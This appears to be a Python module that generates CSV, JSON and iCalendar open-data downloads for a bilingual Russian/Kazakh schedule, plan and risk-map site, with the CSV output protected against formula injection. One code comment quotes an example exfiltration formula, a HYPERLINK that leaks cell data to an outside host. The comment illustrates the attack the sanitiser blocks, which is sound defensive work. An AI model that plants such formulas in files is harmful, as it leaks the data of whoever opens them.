"""Machine-readable downloads of a cycle, generated from the same data as the pages: CSV
(UTF-8 with a BOM, so Excel reads the Cyrillic correctly), JSON and iCalendar. The bytes
depend only on the data and SOURCE_DATE_EPOCH, so the same data gives the same files."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cached_property

from icalendar import Calendar, Event

from vakr.derive.cartogram import Cartogram
from vakr.ingest.history import HISTORY_FIELDS
from vakr.domain.site import Cycle, SiteData
from vakr.domain.model import LANGUAGES, BulletList, Deadline, Rich, Text
from vakr.derive.publications import dated_row
from vakr.publish.routes import DOWNLOAD_SUFFIXES, WHOLE_CYCLE, download_name, download_path

Record = dict[str, str]


def flat(text: Text | Rich | None, lang: str) -> str:
    """A text cell as plain text: paragraphs and list items on their own lines."""
    value = getattr(text, lang) if text is not None else None
    if value is None:
        return ""
    if isinstance(value, str):
        return value
    return "\n".join("\n".join(block.ul) if isinstance(block, BulletList) else block.p for block in value)


def _bilingual(name: str, text: Text | Rich | None) -> Record:
    return {f"{name}_{lang}": flat(text, lang) for lang in LANGUAGES}


def _deadline(deadline: Deadline) -> Record:
    days = deadline.dates
    return {"deadline_kind": deadline.kind,
            **{f"deadline_{name}": days[name].isoformat() if name in days else "" for name in ("date", "start", "end")},
            **_bilingual("deadline_source", deadline.source)}


def schedule_records(cycle: Cycle) -> list[Record]:
    """One record per row of the schedule (item 4 has two rows)."""
    if cycle.schedule is None:
        return []
    out = []
    for n, section in enumerate(cycle.schedule.sections, 1):
        for item in section.items:
            for r, row in enumerate(item.rows, 1):
                out.append({"cycle": cycle.year, "section": str(n), **_bilingual("section_title", section.title),
                            "number": str(item.number), "row": str(r), **_bilingual("work", row.work),
                            **_deadline(row.deadline), **_bilingual("responsible", row.responsible),
                            "organizations": ";".join(row.responsible.organizations)})
    return out


def plan_records(cycle: Cycle) -> list[Record]:
    if cycle.plan is None:
        return []
    return [{"cycle": cycle.year, "number": str(item.number), **_bilingual("recommendation", item.recommendation),
             **_bilingual("measure", item.measure), **_bilingual("completion_form", item.completion_form),
             **_bilingual("executor", item.executor), "organizations": ";".join(item.executor.organizations),
             **_deadline(item.deadline)} for item in cycle.plan.items]


def organization_records(site: SiteData) -> list[Record]:
    return [{"id": org.id, "kind": org.kind, "parent": org.parent or "", **_bilingual("name", org.name),
             **_bilingual("short_name", org.short_name)} for org in site.organizations.values()]


def risk_records(cycle: Cycle, site: SiteData) -> list[Record]:
    """The cartogram's list of risks; score and level are empty where the data gives none."""
    if cycle.risks is None:
        return []
    return [{"cycle": cycle.year, "risk_id": r.id, "organizations": ";".join(r.risk.organizations),
             "direction": r.direction.id, **_bilingual("direction_name", r.direction.name), "map": r.direction.map,
             **_bilingual("description", r.risk.description),
             "description_source": f"{r.risk.source.document}:{r.risk.source.item}" if r.risk.source else "",
             "plan_items": ";".join(map(str, r.risk.plan_items)),
             "likelihood": str(r.risk.likelihood or ""), "impact": str(r.risk.impact or ""),
             "score": str(r.score or ""), "level": r.level.id if r.level else ""}
            for r in Cartogram(site, cycle).risks]


def report_records(cycle: Cycle) -> list[Record]:
    """Execution reports as recorded, oldest first per plan item; no derived status."""
    if cycle.monitoring is None:
        return []
    return [{"cycle": cycle.year, "number": str(number), "date": report.date.isoformat(), "status": report.status,
             **_bilingual("text", report.text), **_bilingual("reason", report.reason),
             "evidence": ";".join(e.url or e.order or "" for e in report.evidence)}
            for number, reports in sorted(cycle.monitoring.plan.items())
            for report in sorted(reports, key=lambda r: r.date)]


# What makes a spreadsheet read a cell as a formula (OWASP «CSV Injection»): a text from the
# data such as «=HYPERLINK("http://…?leak="&A1)» would run when the file is opened.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: str) -> str:
    """`value` with an apostrophe before a formula-starting character, as OWASP recommends
    (the spreadsheet then shows the text; the data page says so; JSON keeps it unchanged).
    A lone «-», the documents' «no deadline», is no formula and stays as approved."""
    return "'" + value if value.startswith(_FORMULA_START) and value != "-" else value


def csv_bytes(records: list[Record], fields: list[str]) -> bytes:
    """CSV as Excel opens it: UTF-8 with a BOM, comma-separated, CRLF line ends, every cell
    quoted and no cell a formula."""
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, fieldnames=fields, lineterminator="\r\n", quoting=csv.QUOTE_ALL)
    writer.writeheader()
    writer.writerows({key: spreadsheet_safe(value) for key, value in record.items()} for record in records)
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def json_bytes(cycle: Cycle, site: SiteData, originals: list[Record] | None = None,
               history: list[Record] | None = None) -> bytes:
    """The whole cycle; `originals`: its signed originals (see `vakr.derive.originals.records`);
    `history`: the changes of its published documents (see `vakr.ingest.history.records`)."""
    data = {"cycle": cycle.year, "period": {"start": cycle.info.period.start.isoformat(), "end": cycle.info.period.end.isoformat()},
            "schedule": schedule_records(cycle), "plan": plan_records(cycle), "organizations": organization_records(site),
            "risks": risk_records(cycle, site), "reports": report_records(cycle), "originals": originals or [],
            "history": history or []}
    return (json.dumps(data, ensure_ascii=False, indent=2) + "\n").encode("utf-8")


def ics_bytes(cycle: Cycle, stamp: dt.datetime) -> bytes:
    """One all-day event per dated schedule item (a range is a multi-day event); the UID is
    the cycle and the item number, so a calendar that imported the file updates, not duplicates."""
    calendar = Calendar()
    calendar.add("prodid", f"-//АО «СПК «Алматы»//ВАКР {cycle.year}//RU")
    calendar.add("version", "2.0")
    calendar.add("x-wr-calname", f"ВАКР {cycle.year}")
    for item in cycle.schedule.items() if cycle.schedule else []:
        row = dated_row(item)
        if row is None:
            continue
        start, end = row.deadline.span  # type: ignore[misc]  # a dated row's deadline names its days
        event = Event()
        event.add("uid", f"vakr-{cycle.year}-schedule-item-{item.number}")
        event.add("dtstamp", stamp)
        event.add("dtstart", start)
        event.add("dtend", end + dt.timedelta(days=1))  # DTEND of an all-day event is exclusive
        event.add("summary", f"{item.number}. {flat(row.work, 'ru')}")
        description = [flat(row.work, lang) + "\n" + flat(row.responsible, lang) for lang in LANGUAGES if flat(row.work, lang)]
        event.add("description", "\n\n".join(description))
        calendar.add_component(event)
    return calendar.to_ical()


@dataclass(frozen=True)
class Download:
    """One file of a cycle's open data, known by the document it holds (`plan`), not by its
    name: the router gives it its name and address."""

    year: str
    document: str  # schedule, plan, risks, reports, history, organizations; WHOLE_CYCLE: the JSON
    format: str  # CSV, JSON, iCalendar
    make: Callable[[], bytes] = field(repr=False, compare=False)

    @cached_property
    def content(self) -> bytes:
        """The file, made when first asked for: a page that shows two downloads' sizes does not
        wait for the others (under `make serve`, a saved plan's page is reloaded before the
        cycle's calendar is made again)."""
        return self.make()

    @property
    def path(self) -> str:
        return download_path(self.year, self.document, self.format)

    @property
    def name(self) -> str:
        return download_name(self.year, self.document, self.format)

    @property
    def about_key(self) -> str:
        """The strings.yml key describing it: `data.file.plan_csv`, `data.file.json`."""
        suffix = DOWNLOAD_SUFFIXES[self.format]
        return f"data.file.{suffix}" if self.document == WHOLE_CYCLE else f"data.file.{self.document}_{suffix}"


def downloads(cycle: Cycle, site: SiteData, epoch: str | None, originals: list[Record] | None = None,
              history: list[Record] | None = None) -> list[Download]:
    """Every download of a cycle; a document not yet approved gives no file. `epoch` is
    SOURCE_DATE_EPOCH: without it the calendar is stamped with the schedule's approval date;
    `originals` go into the JSON, `history` (the edition history's rows) into it and a CSV."""
    stamp = stamp_from_epoch(epoch, cycle.schedule.approval.date if cycle.schedule else cycle.info.period.start)
    y = cycle.year
    out = []
    if cycle.schedule is not None:
        out.append(Download(y, "schedule", "CSV", lambda: csv_bytes(schedule_records(cycle), SCHEDULE_FIELDS)))
        out.append(Download(y, "schedule", "iCalendar", lambda: ics_bytes(cycle, stamp)))
    if cycle.plan is not None:
        out.append(Download(y, "plan", "CSV", lambda: csv_bytes(plan_records(cycle), PLAN_FIELDS)))
    if cycle.risks is not None:
        out.append(Download(y, "risks", "CSV", lambda: csv_bytes(risk_records(cycle, site), RISK_FIELDS)))
    if cycle.monitoring is not None:
        out.append(Download(y, "reports", "CSV", lambda: csv_bytes(report_records(cycle), REPORT_FIELDS)))
    if history is not None and (cycle.schedule or cycle.plan or cycle.risks):  # the history of its documents
        out.append(Download(y, "history", "CSV", lambda: csv_bytes(history, HISTORY_FIELDS)))
    out.append(Download(y, "organizations", "CSV", lambda: csv_bytes(organization_records(site), ORGANIZATION_FIELDS)))
    out.append(Download(y, WHOLE_CYCLE, "JSON", lambda: json_bytes(cycle, site, originals, history)))
    return out


def stamp_from_epoch(epoch: str | None, fallback: dt.date) -> dt.datetime:
    """DTSTAMP of the calendar: SOURCE_DATE_EPOCH when set (reproducible builds), else a
    date from the data, never the clock."""
    if epoch:
        return dt.datetime.fromtimestamp(int(epoch), tz=dt.timezone.utc)
    return dt.datetime.combine(fallback, dt.time(), tzinfo=dt.timezone.utc)


_DEADLINE_FIELDS = ["deadline_kind", "deadline_date", "deadline_start", "deadline_end", "deadline_source_ru", "deadline_source_kk"]
SCHEDULE_FIELDS = ["cycle", "section", "section_title_ru", "section_title_kk", "number", "row", "work_ru", "work_kk",
                   *_DEADLINE_FIELDS, "responsible_ru", "responsible_kk", "organizations"]
PLAN_FIELDS = ["cycle", "number", "recommendation_ru", "recommendation_kk", "measure_ru", "measure_kk",
               "completion_form_ru", "completion_form_kk", "executor_ru", "executor_kk", "organizations", *_DEADLINE_FIELDS]
RISK_FIELDS = ["cycle", "risk_id", "organizations", "direction", "direction_name_ru", "direction_name_kk", "map",
               "description_ru", "description_kk", "description_source", "plan_items", "likelihood", "impact", "score", "level"]
REPORT_FIELDS = ["cycle", "number", "date", "status", "text_ru", "text_kk", "reason_ru", "reason_kk", "evidence"]
ORGANIZATION_FIELDS = ["id", "kind", "parent", "name_ru", "name_kk", "short_name_ru", "short_name_kk"]
